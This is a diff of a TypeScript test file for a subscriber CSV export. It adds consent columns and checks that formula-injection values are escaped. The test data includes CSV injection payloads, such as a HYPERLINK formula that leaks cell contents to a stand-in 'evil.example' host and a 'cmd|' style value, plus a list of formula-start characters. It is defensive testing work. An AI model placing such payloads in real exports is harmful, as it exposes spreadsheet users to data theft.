@@ -75,34 +75,64 @@ describe('importSubscribersCsv', () => {
   });
 });
 
+function subscriber(fields: Partial<Subscriber> & Pick<Subscriber, 'id' | 'email'>): Subscriber {
+  const createdAt = fields.createdAt ?? new Date('2026-01-01T00:00:00Z');
+  return {
+    name: null,
+    status: 'active',
+    createdAt,
+    unsubscribedAt: null,
+    statusAt: createdAt,
+    confirmSentAt: null,
+    consent: { source: null, sourceUrl: null, signupIp: null, signupUserAgent: null, confirmedAt: null, confirmIp: null, confirmUserAgent: null },
+    ...fields,
+  };
+}
+
 describe('exportSubscribersCsv', () => {
   it('writes RFC 4180 CSV that imports back to the same addresses and names', async () => {
     const subscribers: Subscriber[] = [
-      { id: 1, email: 'a@example.org', name: 'Doe, "J"', status: 'active', createdAt: new Date('2026-01-01T00:00:00Z'), unsubscribedAt: null },
-      { id: 2, email: 'b@example.org', name: null, status: 'unsubscribed', createdAt: new Date('2026-01-02T00:00:00Z'), unsubscribedAt: new Date('2026-02-01T00:00:00Z') },
-      { id: 3, email: 'c@example.org', name: '山田 太郎', status: 'active', createdAt: new Date('2026-01-03T00:00:00Z'), unsubscribedAt: null },
+      subscriber({ id: 1, email: 'a@example.org', name: 'Doe, "J"', createdAt: new Date('2026-01-01T00:00:00Z') }),
+      subscriber({ id: 2, email: 'b@example.org', status: 'unsubscribed', createdAt: new Date('2026-01-02T00:00:00Z'), unsubscribedAt: new Date('2026-02-01T00:00:00Z') }),
+      subscriber({ id: 3, email: 'c@example.org', name: '山田 太郎', createdAt: new Date('2026-01-03T00:00:00Z') }),
     ];
     const csv = await text(exportSubscribersCsv(subscribers));
-    expect(csv.split('\r\n')[0]).toBe('email,name,status,created_at,unsubscribed_at');
-    expect(csv).toContain('a@example.org,"Doe, ""J""",active,2026-01-01T00:00:00.000Z,\r\n');
-    expect(csv).toContain('b@example.org,,unsubscribed,2026-01-02T00:00:00.000Z,2026-02-01T00:00:00.000Z\r\n');
+    expect(csv.split('\r\n')[0]).toBe('email,name,status,created_at,unsubscribed_at,source,source_url,signup_ip,signup_user_agent,confirmed_at,confirm_ip,confirm_user_agent');
+    expect(csv).toContain('a@example.org,"Doe, ""J""",active,2026-01-01T00:00:00.000Z,,,,,,,,\r\n');
+    expect(csv).toContain('b@example.org,,unsubscribed,2026-01-02T00:00:00.000Z,2026-02-01T00:00:00.000Z,,,,,,,\r\n');
     const back = await importSubscribersCsv(csv);
     expect(back.problems).toEqual([]);
     expect(back.rows).toEqual(subscribers.map((s) => ({ email: s.email, name: s.name })));
+  });
+
+  it('carries the consent record, and free text from the form cannot become a spreadsheet formula', async () => {
+    const csv = await text(exportSubscribersCsv([
+      subscriber({
+        id: 1,
+        email: 'form@example.org',
+        name: '=HYPERLINK("http://evil.example/","click")',
+        consent: {
+          source: 'form',
+          sourceUrl: 'https://blog.example.com/about/',
+          signupIp: '203.0.113.9',
+          signupUserAgent: '+Mozilla/5.0, "quoted"',
+          confirmedAt: new Date('2026-01-01T01:00:00Z'),
+          confirmIp: '2001:db8::1',
+          confirmUserAgent: '@agent',
+        },
+      }),
+    ]));
+    const row = csv.split('\r\n')[1];
+    expect(row).toBe(
+      `form@example.org,"'=HYPERLINK(""http://evil.example/"",""click"")",active,2026-01-01T00:00:00.000Z,,form,https://blog.example.com/about/,203.0.113.9,"'+Mozilla/5.0, ""quoted""",2026-01-01T01:00:00.000Z,2001:db8::1,'@agent`,
+    );
   });
 });
 
 /** The cells of a CSV as an independent reader sees them (csv-parse's plain defaults, not our reader). */
 const cells = (csv: string): string[][] => parseCsv(csv, { bom: true }) as string[][];
 
-const subscriber = (id: number, email: string, name: string | null): Subscriber => ({
-  id,
-  email,
-  name,
-  status: 'active',
-  createdAt: new Date('2026-01-01T00:00:00Z'),
-  unsubscribedAt: null,
-});
+const plain = (id: number, email: string, name: string | null): Subscriber => subscriber({ id, email, name });
 
 // OWASP "CSV Injection": a cell starting with one of these is run as a formula by spreadsheets;
 // the full-width ones are folded into them by Apple Numbers.
@@ -111,9 +141,9 @@ const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uF
 describe('exportSubscribersCsv: formula injection', () => {
   it.each(FORMULA_STARTS)('puts a quote mark before a name starting with %j, and import takes it off', async (start) => {
     const name = `${start}HYPERLINK("https://evil.example/?"&A1,"click")`;
-    const csv = await text(exportSubscribersCsv([subscriber(1, 'a@example.org', name)]));
+    const csv = await text(exportSubscribersCsv([plain(1, 'a@example.org', name)]));
     const [header, row] = cells(csv);
-    expect(header).toEqual(['email', 'name', 'status', 'created_at', 'unsubscribed_at']);
+    expect(header).toEqual(['email', 'name', 'status', 'created_at', 'unsubscribed_at', 'source', 'source_url', 'signup_ip', 'signup_user_agent', 'confirmed_at', 'confirm_ip', 'confirm_user_agent']);
     expect(row?.[1]?.[0]).toBe("'");
     expect(row?.[1]).toBe(`'${name}`);
     // our reader gives back the name exactly (a leading tab or CR is the store's to clean: normaliseName)
@@ -125,7 +155,7 @@ describe('exportSubscribersCsv: formula injection', () => {
   it.each(['=1+1@example.org', '+cmd@example.org', "-2+3+cmd|'@example.org", '\uFF1Dx@example.org'])(
     'puts a quote mark before an address starting with a formula character: %j',
     async (email) => {
-      const csv = await text(exportSubscribersCsv([subscriber(1, email, 'Ann')]));
+      const csv = await text(exportSubscribersCsv([plain(1, email, 'Ann')]));
       const [, row] = cells(csv);
       expect(row?.[0]).toBe(`'${email}`);
       expect((await importSubscribersCsv(csv)).rows).toEqual([{ email: normaliseEmail(email), name: 'Ann' }]);
@@ -134,11 +164,11 @@ describe('exportSubscribersCsv: formula injection', () => {
 
   it('leaves every other value as it is, and no cell of the export starts with a formula character', async () => {
     const list = [
-      subscriber(1, 'plain@example.org', "O'Brien"),
-      subscriber(2, "o'hara@example.org", "'quoted'"),
-      subscriber(3, 'x@example.org', 'a=b+c-d@e'),
-      subscriber(4, 'y@example.org', null),
-      subscriber(5, 'z@example.org', '山田 太郎'),
+      plain(1, 'plain@example.org', "O'Brien"),
+      plain(2, "o'hara@example.org", "'quoted'"),
+      plain(3, 'x@example.org', 'a=b+c-d@e'),
+      plain(4, 'y@example.org', null),
+      plain(5, 'z@example.org', '山田 太郎'),
     ];
     const csv = await text(exportSubscribersCsv(list));
     const rows = cells(csv).slice(1);
@@ -148,8 +178,8 @@ describe('exportSubscribersCsv: formula injection', () => {
 
   it('a value that already starts with quote marks before a formula character survives the round trip', async () => {
     const names = ["'=already", "''+two", "'-", "'''@three", "'", "''"];
-    const list = names.map((name, i) => subscriber(i + 1, `n${i}@example.org`, name));
-    const csv = await text(exportSubscribersCsv([...list, subscriber(99, "'=q@example.org", null)]));
+    const list = names.map((name, i) => plain(i + 1, `n${i}@example.org`, name));
+    const csv = await text(exportSubscribersCsv([...list, plain(99, "'=q@example.org", null)]));
     const rows = cells(csv).slice(1);
     expect(rows.map((r) => r[1])).toEqual(["''=already", "'''+two", "''-", "''''@three", "'", "''", '']);
     expect(rows.at(-1)?.[0]).toBe("''=q@example.org");
